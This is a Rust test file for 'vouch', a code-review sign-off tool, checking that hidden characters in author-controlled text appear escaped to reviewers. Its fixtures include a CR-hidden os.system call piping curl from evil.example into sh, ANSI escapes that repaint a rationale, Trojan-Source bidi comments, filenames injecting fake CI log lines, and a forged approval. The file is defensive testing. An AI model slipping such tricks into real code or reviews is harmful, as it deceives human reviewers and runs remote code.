//! The reviewer's screen cannot lie: text the author controls (code,
//! rationale, file names, emails, tool names) reaches a person with every
//! hidden character visible (`‹CR›`, `‹ESC›`, `‹U+202E›`, see
//! `src/display.rs`), whether it is shown by `vouch approve`, `vouch review`,
//! `vouch verify` (text and SARIF), the HTML report or the language server's
//! hover. Each test plays the author with the real binary and real git.

mod support {
    pub mod lsp;
    pub mod repo;
}

use std::process::{Command, Output, Stdio};

use serde_json::{Value, json};
use support::lsp::{Server, range};
use support::repo::{TestRepo, vouch_in};

const TRAILER: &str = "Co-authored-by: Claude <noreply@anthropic.com>";

/// A Python function whose comment ends in a lone CR: Python (and a
/// terminal) take the CR for a line break, so `os.system(...)` runs, and a
/// terminal shows it over the comment.
const HIDDEN_CALL: &str = "def check(user):\n    # caller must be authorised\ros.system(\"curl evil.example | sh\")\n    return user.is_admin\n";

/// ANSI escapes that erase the line and print a reassuring one instead.
const ANSI_RATIONALE: &str = "pure refactor\x1b[2K\x1b[1G\x1b[32mno shell calls, no I/O\x1b[0m";

/// A Trojan-Source comment: bidi overrides reorder what is shown.
const TROJAN: &str = "def is_admin(user):\n    # \u{202e} } \u{2066}if user.admin:\u{2069} \u{2066} begin admins only\n    return True\n";

fn text(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn all(out: &Output) -> String {
    format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr))
}

/// No byte a terminal would act on, and no bidi or invisible character.
fn assert_nothing_hidden(shown: &str) {
    for c in shown.chars() {
        // `‹` opens vouch's own escapes (the author's own `‹` is escaped).
        let ok = c == '\n' || c == '\t' || c == vouch::display::OPEN || !vouch::display::is_hidden(c);
        assert!(ok, "raw U+{:04X} reaches the screen in:\n{shown}", c as u32);
    }
}

/// A repository whose policy names carol as the reviewer, with `file`
/// committed holding `base`.
fn reviewed_repo(file: &str, base: &str) -> TestRepo {
    let repo = TestRepo::new();
    repo.write(".vouch.toml", "reviewers = [\"carol@example.com\"]\n");
    repo.write(file, base);
    repo.commit_all("init");
    repo
}

/// The author requests sign-off on AI lines `lines` of `file` with
/// `rationale`; returns the request id and what `vouch request` printed.
fn request(repo: &TestRepo, file: &str, lines: &str, rationale: &str) -> (String, Output) {
    let marked = vouch_in(&repo.root, &["mark", &format!("{file}:{lines}"), "--ai", "--tool", "claude-code"]);
    assert!(marked.status.success(), "{}", all(&marked));
    let first = lines.split('-').next().unwrap();
    let out = vouch_in(&repo.root, &["request", &format!("{file}:{first}"), "-m", rationale]);
    assert!(out.status.success(), "{}", all(&out));
    let shown = text(&out);
    let id = shown
        .lines()
        .find_map(|l| l.trim().strip_prefix("vouch approve "))
        .unwrap_or_else(|| panic!("no approve command in:\n{shown}"))
        .trim()
        .to_string();
    (id, out)
}

#[test]
fn approve_shows_a_lone_cr_and_ansi_escapes_in_the_rationale() {
    let repo = reviewed_repo("tool.py", "def ok():\n    return 1\n");
    repo.write("tool.py", &format!("def ok():\n    return 1\n\n\n{HIDDEN_CALL}"));
    let (id, requested) = request(&repo, "tool.py", "5-7", ANSI_RATIONALE);
    // The author's own echo of the rationale is shown safely too.
    assert!(text(&requested).contains("pure refactor‹ESC›[2K‹ESC›[1G‹ESC›[32mno shell calls"), "{}", all(&requested));
    assert_nothing_hidden(&text(&requested));

    repo.git(&["config", "user.email", "carol@example.com"]);
    // Without a terminal vouch shows the units, then refuses to ask.
    let out = vouch_in(&repo.root, &["approve", &id]);
    assert_eq!(out.status.code(), Some(2), "{}", all(&out));
    let shown = text(&out);
    assert!(shown.contains("# caller must be authorised‹CR›os.system(\"curl evil.example | sh\")"), "{shown}");
    assert!(
        shown.contains("rationale: pure refactor‹ESC›[2K‹ESC›[1G‹ESC›[32mno shell calls, no I/O‹ESC›[0m"),
        "{shown}"
    );
    assert_nothing_hidden(&shown);

    // The same unit by its line, and the reviewer's queue.
    let out = vouch_in(&repo.root, &["approve", "tool.py:6"]);
    assert!(text(&out).contains("authorised‹CR›os.system"), "{}", all(&out));
    assert_nothing_hidden(&text(&out));
    let mut review = Command::new(env!("CARGO_BIN_EXE_vouch"))
        .arg("review")
        .current_dir(&repo.root)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("NO_COLOR", "1")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write as _;
    review.stdin.take().unwrap().write_all(b"q\n").unwrap();
    let out = review.wait_with_output().unwrap();
    let shown = text(&out);
    assert!(shown.contains("authorised‹CR›os.system"), "{}", all(&out));
    assert!(shown.contains("pure refactor‹ESC›[2K"), "{shown}");
    assert_nothing_hidden(&shown);
    let list = vouch_in(&repo.root, &["review", "--list", "--all"]);
    assert_nothing_hidden(&text(&list));
}

#[test]
fn approve_shows_a_trojan_source_comment() {
    let repo = reviewed_repo("auth.py", "X = 1\n");
    repo.write("auth.py", &format!("X = 1\n\n\n{TROJAN}"));
    let (id, _) = request(&repo, "auth.py", "4-6", "adds the admin check");
    repo.git(&["config", "user.email", "carol@example.com"]);
    let shown = text(&vouch_in(&repo.root, &["approve", &id]));
    assert!(shown.contains("# ‹U+202E› } ‹U+2066›if user.admin:‹U+2069› ‹U+2066› begin admins only"), "{shown}");
    assert_nothing_hidden(&shown);
}

/// The author's branch: a file whose name carries a newline and a fake CI
/// log line, added by an AI commit; and a forged approval by an identity
/// with a NUL in it. Returns the repository, ready for `main..feature`.
fn forged_branch() -> (TestRepo, String) {
    let repo = TestRepo::new();
    repo.write(".vouch.toml", "reviewers = [\"carol@example.com\"]\n");
    repo.write("README.md", "base\n");
    repo.commit_all("base");
    repo.git(&["checkout", "-q", "-b", "feature"]);
    let name = "src/pay\n::notice title=vouch::PASS all units approved\n\u{202e}yp.py";
    repo.write(name, "def charge(card):\n    return card.total\n");
    repo.git(&["add", "-A"]);
    repo.git(&["commit", "-q", "--no-verify", "-m", &format!("pay\n\n{TRAILER}")]);

    let out = vouch_in(&repo.root, &["verify", "main..feature", "--format", "json"]);
    let report: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|_| panic!("{}", all(&out)));
    let failure = report["failures"].as_array().unwrap().iter().find(|f| f["fingerprint"].is_string()).unwrap();
    assert_eq!(failure["path"], name, "JSON keeps the exact value");
    let fingerprint = failure["fingerprint"].as_str().unwrap();
    let repository = report["repository"].as_str().unwrap();
    let git = git2::Repository::open(&repo.root).unwrap();
    let forged =
        vouch::store::records::Person { name: "Carol".into(), email: "carol@example.com\0\x1b[8m hidden".into() };
    let approval =
        vouch::store::records::Approval::new(repository, fingerprint, vouch::policy::Verdict::Approve, forged);
    vouch::store::records::add(&git, &approval).unwrap();
    (repo, name.to_string())
}

#[test]
fn verify_text_shows_a_newline_in_a_path_and_a_nul_in_an_email() {
    let (repo, _) = forged_branch();
    let out = vouch_in(&repo.root, &["verify", "main..feature"]);
    assert_eq!(out.status.code(), Some(1), "{}", all(&out));
    let shown = text(&out);
    assert!(shown.contains("src/pay‹LF›::notice title=vouch::PASS all units approved‹LF›‹U+202E›yp.py"), "{shown}");
    assert!(shown.contains("carol@example.com‹NUL›‹ESC›[8m hidden"), "{shown}");
    for line in shown.lines() {
        assert!(!line.starts_with("::"), "a line injected into the CI log: {line:?}\n{shown}");
    }
    assert_nothing_hidden(&shown);
}

#[test]
fn sarif_messages_and_locations_show_what_the_bytes_are() {
    let (repo, _) = forged_branch();
    let out = vouch_in(&repo.root, &["verify", "main..feature", "--format", "sarif"]);
    let sarif: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|_| panic!("{}", all(&out)));
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    let unit = results.iter().find(|r| r["ruleId"] == "vouch/unapproved-ai").expect("the unit fails");
    let message = unit["message"]["text"].as_str().unwrap();
    assert!(message.contains("src/pay‹LF›::notice"), "{message}");
    assert!(message.contains("carol@example.com‹NUL›‹ESC›[8m"), "{message}");
    for line in message.lines() {
        assert!(!line.starts_with("::"), "{message}");
    }
    assert_nothing_hidden(message);
    // A location is a URI reference: the name's bytes, percent-encoded.
    let uri = unit["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].as_str().unwrap();
    assert_eq!(uri, "src/pay%0A::notice%20title=vouch::PASS%20all%20units%20approved%0A%E2%80%AEyp.py");
}

#[test]
fn the_html_report_shows_bidi_characters_in_names() {
    let repo = TestRepo::new();
    repo.write(".vouch.toml", "reviewers = [\"carol@example.com\"]\n");
    repo.write("README.md", "base\n");
    repo.commit_all("base");
    repo.write("src/\u{202e}lave\u{200b}/x.py", "def f():\n    return 1\n");
    repo.git(&["add", "-A"]);
    repo.git(&["commit", "-q", "--no-verify", "-m", &format!("ai\n\n{TRAILER}")]);
    let out = vouch_in(&repo.root, &["report", "--html", "-o", "-"]);
    assert!(out.status.success(), "{}", all(&out));
    let html = text(&out);
    assert!(html.contains("src/‹U+202E›lave‹U+200B›"), "{html}");
    assert!(!html.contains('\u{202e}') && !html.contains('\u{200b}'), "a raw bidi or invisible character");
    let stats = vouch_in(&repo.root, &["stats"]);
    assert!(text(&stats).contains("src/‹U+202E›lave‹U+200B›"), "{}", all(&stats));
    assert_nothing_hidden(&text(&stats));
}

#[test]
fn hover_and_diagnostics_show_hidden_characters() {
    const RUST: &str = "fn human() -> u32 {\n    1\n}\n";
    const GENERATED: &str = "\nfn generated(x: u32) -> u32 {\n    x * 2\n}\n";
    let repo = TestRepo::new();
    repo.write(".vouch.toml", "reviewers = [\"carol@example.com\"]\n");
    repo.write("src/lib.rs", RUST);
    repo.commit_all("init");
    let uri = repo.uri("src/lib.rs");
    let mut server = Server::start(&repo.root, &["utf-16"]);
    server.open(&uri, "rust", RUST);
    server.change(&uri, 2, json!([{ "range": range(3, 0, 3, 0), "text": GENERATED }]));
    server.notify(
        "vouch/aiEdit",
        json!({
            "textDocument": { "uri": uri, "version": 2 },
            "range": range(3, 0, 7, 0),
            "tool": "copilot\u{202e}`](http://evil.example) **approved by carol**",
            "model": "m\r\x1b[2Kapproved",
        }),
    );
    let diags = server.diagnostics(&uri, 2);
    let message = diags[0]["message"].as_str().unwrap();
    assert!(message.contains("copilot‹U+202E›`](http://evil.example)"), "{message}");
    assert!(message.contains("m‹CR›‹ESC›[2Kapproved"), "{message}");
    assert_nothing_hidden(message);
    // The author requests sign-off with a rationale that repaints the line.
    let actions = server.request(
        "textDocument/codeAction",
        json!({ "textDocument": { "uri": uri }, "range": range(5, 0, 5, 0), "context": { "diagnostics": diags } }),
    );
    let request =
        actions.as_array().unwrap().iter().find(|a| a["title"].as_str().unwrap().contains("request")).unwrap();
    let mut command = request["command"].clone();
    command["arguments"][0]["rationale"] = json!(ANSI_RATIONALE);
    server.request(
        "workspace/executeCommand",
        json!({ "command": command["command"], "arguments": command["arguments"] }),
    );
    let hover = server.request(
        "textDocument/hover",
        json!({ "textDocument": { "uri": uri }, "position": { "line": 5, "character": 4 } }),
    );
    let hover = hover["contents"]["value"].as_str().unwrap().to_string();
    assert!(hover.contains("copilot‹U+202E›`](http://evil.example) **approved by carol**"), "{hover}");
    assert!(hover.contains("m‹CR›‹ESC›[2Kapproved"), "{hover}");
    assert!(hover.contains(r"rationale: pure refactor‹ESC›\[2K‹ESC›\[1G‹ESC›\[32mno shell calls"), "{hover}");
    // The tool name stays inside its code span: no link, no bold.
    assert!(hover.contains("``"), "{hover}");
    assert_nothing_hidden(&hover);
    let lenses = server.request("textDocument/codeLens", json!({ "textDocument": { "uri": uri } }));
    let title = lenses[0]["command"]["title"].as_str().unwrap();
    assert!(title.contains("copilot‹U+202E›"), "{title}");
    assert_nothing_hidden(title);
    server.shutdown();
}
